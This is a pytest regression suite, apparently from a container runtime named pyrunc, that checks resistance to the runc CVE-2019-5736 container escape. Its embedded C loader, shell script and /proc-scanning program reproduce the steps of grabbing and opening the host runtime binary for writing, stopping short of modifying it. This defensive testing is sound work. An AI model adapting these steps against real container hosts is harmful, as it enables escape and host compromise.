"""CVE-2019-5736 (runc), youki#343: the container opens the runtime's executable and overwrites it.

The executable of a process can be reached as /proc/PID/exe. An image whose entry point leads there makes the
kernel run the host's file inside the container, with the image's dynamic loader. The attacker keeps a
descriptor of it, waits until no process executes it any more, and opens it for writing. The attack here
stops one step before doing harm: if the file could be opened for appending, the test fails.
"""

from __future__ import annotations

import fcntl
import os
import shlex
import shutil
import subprocess
import sys
import sysconfig
from typing import TYPE_CHECKING

import pytest

from tests.support.containers import TOP, command, wait_for

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.support.containers import Bundle, Runtime

# Runs as the dynamic loader of whatever the host's executable is: no C library, only system calls.
LOADER = r"""
static long call(long n, long a, long b, long c, long d) {
    long r;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return r;
}
void _start(void) {
    static const char *argv[] = {"/bin/sh", "/overwrite", 0};
    static const char *envp[] = {"PATH=/bin", 0};
    long fd = call(257, -100, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0);
    call(1, 1, (long)"LOADED\n", 7, 0);
    if (fd != 9)
        call(33, fd, 9, 0, 0); /* dup2 */
    call(59, (long)argv[0], (long)argv, (long)envp, 0); /* execve: from here on nobody executes the file */
    call(60, 1, 0, 0, 0);
}
"""
# ">>" opens for writing and changes nothing. The file is in use, and so refused, until the runtime is gone.
OVERWRITE = """
readlink /proc/self/fd/9 >> /tried
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do
    if (: >> /proc/self/fd/9) 2>/dev/null; then echo OPENED FOR WRITING >> /tried; break; fi
    sleep 0.1
done
mv /tried /result
"""
# For a runtime that is visible while it joins: take its executable while it lives, wait until it is gone.
WATCH = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static struct stat watch, busybox;
static int found, opened;

/* Is it a regular file, and none of the image's own? */
static int foreign(int fd)
{
    struct stat other;
    if (fd < 0 || fstat(fd, &other) || !S_ISREG(other.st_mode))
        return 0;
    return other.st_ino != watch.st_ino && other.st_ino != busybox.st_ino;
}

/* Can it be changed? A sealed memory file can be opened, but whatever is written to it is refused. */
static int harmful(int fd)
{
    int seals = fcntl(fd, F_GET_SEALS);
    if (seals < 0 || !(seals & F_SEAL_WRITE))
        return 1;
    return write(fd, "x", 1) >= 0 || errno != EPERM || !(seals & F_SEAL_SEAL);
}

static void take_executable(const char *pid)
{
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_PATH);
    if (foreign(fd)) {
        found++;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        for (int i = 0; i < 200; i++) {
            int w = open(path, O_WRONLY | O_APPEND);
            if (w >= 0) {
                opened += harmful(w);
                close(w);
                break;
            }
            usleep(1000);
        }
    }
    if (fd >= 0)
        close(fd);
}

static void take_libraries(const char *pid)
{
    char path[600];
    snprintf(path, sizeof path, "/proc/%s/map_files", pid);
    DIR *maps = opendir(path);
    if (!maps)
        return;
    for (struct dirent *map; (map = readdir(maps));) {
        snprintf(path, sizeof path, "/proc/%s/map_files/%s", pid, map->d_name);
        int fd = open(path, O_WRONLY | O_NONBLOCK);
        if (foreign(fd))
            opened += harmful(fd);
        if (fd >= 0)
            close(fd);
    }
    closedir(maps);
}

int main(void)
{
    stat("/watch", &watch);
    stat("/bin/busybox", &busybox);
    while (access("/stop", F_OK)) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));)
            if (atoi(entry->d_name) > 1) {
                take_libraries(entry->d_name); /* first: the other one waits for the process's end */
                take_executable(entry->d_name);
            }
        closedir(proc);
    }
    FILE *out = fopen("/result.new", "w");
    fprintf(out, "found %d opened %d\n", found, opened);
    fclose(out);
    rename("/result.new", "/result");
    return 0;
}
"""


@pytest.fixture(scope="module")
def loader(compiled: Callable[..., Path]) -> Path:
    if os.uname().machine != "x86_64":
        pytest.skip("the attacker's loader is written for x86_64")
    return compiled("loader", LOADER, "-static", "-nostdlib", "-fno-stack-protector", "-ffreestanding")


@pytest.fixture(autouse=True)
def own_interpreter(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Run pyrunc with an interpreter of its own: a file that is executed cannot be written to (ETXTBSY)."""
    if {"PYRUNC", "INSTALLED_PYRUNC"} & set(os.environ):
        return
    place = tmp_path / "python" / "bin" / "python3"
    place.parent.mkdir(parents=True)
    real = os.path.realpath(sys.executable)
    shutil.copy2(real, place)
    (tmp_path / "python/pyvenv.cfg").write_text(f"home = {os.path.dirname(real)}\n")
    words = command()
    monkeypatch.setenv("PYRUNC", shlex.join([str(place), *words[1:]]))


def poison(bundle: Bundle, loader: Path) -> None:
    """Put the attacker's dynamic loader at each place where the host's executable looks for its own."""
    headers = subprocess.run(
        ["readelf", "-lW", command()[0]], capture_output=True, text=True, check=True
    ).stdout
    (interpreter,) = (
        line.split(": ")[1].rstrip("]\n") for line in headers.splitlines() if "interpreter:" in line
    )
    place = bundle.rootfs / interpreter.lstrip("/")
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(loader.read_bytes())
    place.chmod(0o755)
    (bundle.rootfs / "overwrite").write_text(OVERWRITE)
    (bundle.rootfs / "entry").symlink_to("/proc/self/exe")
    (bundle.rootfs / "script").write_text("#!/proc/self/exe\n")
    (bundle.rootfs / "script").chmod(0o755)
    (bundle.rootfs / "indirect").write_text("#!/script\n")
    (bundle.rootfs / "indirect").chmod(0o755)


ENTRIES = ["/proc/self/exe", "/entry", "/script", "/indirect"]


def verdict(bundle: Bundle) -> str:
    """Return what the attacker found out; "" if the host's executable was not run in time."""
    result = bundle.rootfs / "result"
    return result.read_text() if wait_for(result.exists, 8) else ""


def start(bundle: Bundle, runtime: Runtime, entry: str) -> None:
    """Start a container with an entry point, and end: the executable cannot be written to while it runs."""
    bundle.process["args"] = [entry]
    bundle.write()
    name = runtime.new_id()
    with (bundle.path / "log").open("wb") as log:
        for words in (("create", "--bundle", str(bundle.path), name), ("start", name)):
            subprocess.run(
                [*command(), "--root", str(runtime.root), *words],
                check=False,
                stdin=subprocess.DEVNULL,
                stdout=log,
                stderr=log,
            )


def execute(runtime: Runtime, name: str, entry: str) -> None:
    """Execute an entry point in a container, and end."""
    with (runtime.root / "log").open("wb") as log:
        subprocess.run(
            [*command(), "--root", str(runtime.root), "exec", "--detach", name, entry],
            check=False,
            stdin=subprocess.DEVNULL,
            stdout=log,
            stderr=log,
        )


@pytest.mark.parametrize("entry", ENTRIES)
def test_entry_point_that_is_the_runtime_itself(
    bundle: Bundle, runtime: Runtime, loader: Path, entry: str
) -> None:
    poison(bundle, loader)
    start(bundle, runtime, entry)
    assert "OPENED" not in verdict(bundle)


@pytest.mark.parametrize("entry", ENTRIES)
def test_exec_of_the_runtime_itself(bundle: Bundle, runtime: Runtime, loader: Path, entry: str) -> None:
    poison(bundle, loader)
    execute(runtime, runtime.started(bundle), entry)
    assert "OPENED" not in verdict(bundle)


@pytest.mark.parametrize("entry", ["/entry", "/script"])
def test_with_every_capability_and_no_new_privileges_off(
    bundle: Bundle, runtime: Runtime, loader: Path, entry: str
) -> None:
    poison(bundle, loader)
    bundle.process["noNewPrivileges"] = False
    bundle.capabilities("CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_DAC_READ_SEARCH")
    start(bundle, runtime, entry)
    assert "OPENED" not in verdict(bundle)
    (bundle.rootfs / "result").unlink(missing_ok=True)
    execute(runtime, runtime.started(bundle), entry)
    assert "OPENED" not in verdict(bundle)


@pytest.mark.parametrize("privileged", [False, True])
def test_watching_for_the_runtime_while_it_joins(
    bundle: Bundle, runtime: Runtime, compiled: Callable[..., Path], *, privileged: bool
) -> None:
    program = compiled("watch", WATCH)
    (bundle.rootfs / "watch").write_bytes(program.read_bytes())
    (bundle.rootfs / "watch").chmod(0o755)
    if privileged:
        bundle.process["noNewPrivileges"] = False
        bundle.capabilities(
            "CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_DAC_READ_SEARCH", "CAP_CHECKPOINT_RESTORE"
        )
    name = runtime.started(bundle, "/watch; sleep 1000")
    for _ in range(12):
        assert runtime("exec", name, "/bin/true").returncode == 0
    (bundle.rootfs / "stop").touch()
    result = bundle.rootfs / "result"
    assert wait_for(result.exists)
    assert result.read_text().endswith("opened 0\n")


EVERYTHING = ("CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_DAC_READ_SEARCH", "CAP_CHECKPOINT_RESTORE")


@pytest.mark.parametrize("way", ["exec --cap", "joined"])
def test_watched_by_somebody_with_more_rights_than_the_container(
    bundle: Bundle, runtime: Runtime, compiled: Callable[..., Path], way: str
) -> None:
    """The process of an earlier exec, or another container in the same pid namespace, watches.

    It can open the libraries that pyrunc has loaded.
    """
    program = compiled("watch", WATCH)
    (bundle.rootfs / "watch").write_bytes(program.read_bytes())
    (bundle.rootfs / "watch").chmod(0o755)
    name = runtime.started(bundle)
    if way == "joined":
        bundle.capabilities(*EVERYTHING)
        for namespace in bundle.linux["namespaces"]:
            if namespace["type"] == "pid":
                namespace["path"] = f"/proc/{runtime.pid(name)}/ns/pid"
        runtime.started(bundle, "/watch")
    else:
        more = [word for capability in EVERYTHING for word in ("--cap", capability)]
        with (runtime.root / "log").open("wb") as log:
            words = [*command(), "--root", str(runtime.root), "exec", "--detach", *more, name, "/watch"]
            subprocess.run(words, check=True, stdin=subprocess.DEVNULL, stdout=log, stderr=log)
    for _ in range(12):
        assert runtime("exec", name, "/bin/true").returncode == 0
    (bundle.rootfs / "stop").touch()
    result = bundle.rootfs / "result"
    assert wait_for(result.exists)
    assert result.read_text().endswith("opened 0\n")


def test_nothing_that_a_created_container_has_mapped_is_writable(bundle: Bundle, runtime: Runtime) -> None:
    """Until `start` the first process is our program.

    A process in the container may have every capability.
    """
    bundle.write()
    name = runtime.new_id()
    with (bundle.path / "log").open("wb") as log:
        words = [*command(), "--root", str(runtime.root), "create", "--bundle", str(bundle.path), name]
        subprocess.run(words, check=True, stdin=subprocess.DEVNULL, stdout=log, stderr=log)
    maps = f"/proc/{runtime.pid(name)}/map_files"
    found = os.listdir(maps)
    writable = []
    for entry in found:
        fd = os.open(f"{maps}/{entry}", os.O_RDONLY)
        try:
            sealed = fcntl.fcntl(fd, fcntl.F_GET_SEALS) & fcntl.F_SEAL_WRITE
        except OSError:  # no memory file
            sealed = 0
        if not sealed:
            writable.append(os.readlink(f"{maps}/{entry}"))
        os.close(fd)
    assert found
    assert writable == []


LIBRARY = """
import subprocess, sys
sys.path[:0] = {path!r}
import pyrunc
entry, name, bundle, root = sys.argv[1:]
null = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
try:
    if bundle:
        pyrunc.Container.create(bundle, name, root=root, **null).start()
    else:
        pyrunc.Container(name, root=root).exec([entry], **null)
except pyrunc.Failure:
    pass
"""


def by_library(entry: str, name: str, bundle: str, root: str) -> None:
    """Call pyrunc from a Python program: then the host's executable is the interpreter."""
    program = LIBRARY.format(path=[str(TOP), sysconfig.get_path("platlib")])
    words = [command()[0], "-I", "-S", "-c", program, entry, name, bundle, root]
    subprocess.run(words, check=True, timeout=60)


@pytest.mark.parametrize("entry", ENTRIES)
def test_through_the_python_interface(bundle: Bundle, runtime: Runtime, loader: Path, entry: str) -> None:
    if not command()[0].endswith("/python3"):
        pytest.skip("another command is under test, and the interface is no command")
    poison(bundle, loader)
    # A worker waits for its process, and while it runs its executable cannot be written to: end it first.
    (bundle.rootfs / "overwrite").write_text(f"({OVERWRITE}) <&- >&- 2>&- &\n")
    bundle.linux["namespaces"] = [entry for entry in bundle.linux["namespaces"] if entry["type"] != "pid"]
    bundle.process["args"] = [entry]
    bundle.write()
    by_library(entry, runtime.new_id(), str(bundle.path), str(runtime.root))
    assert "OPENED" not in verdict(bundle)
    (bundle.rootfs / "result").unlink(missing_ok=True)
    by_library(entry, runtime.started(bundle), "", str(runtime.root))
    assert "OPENED" not in verdict(bundle)
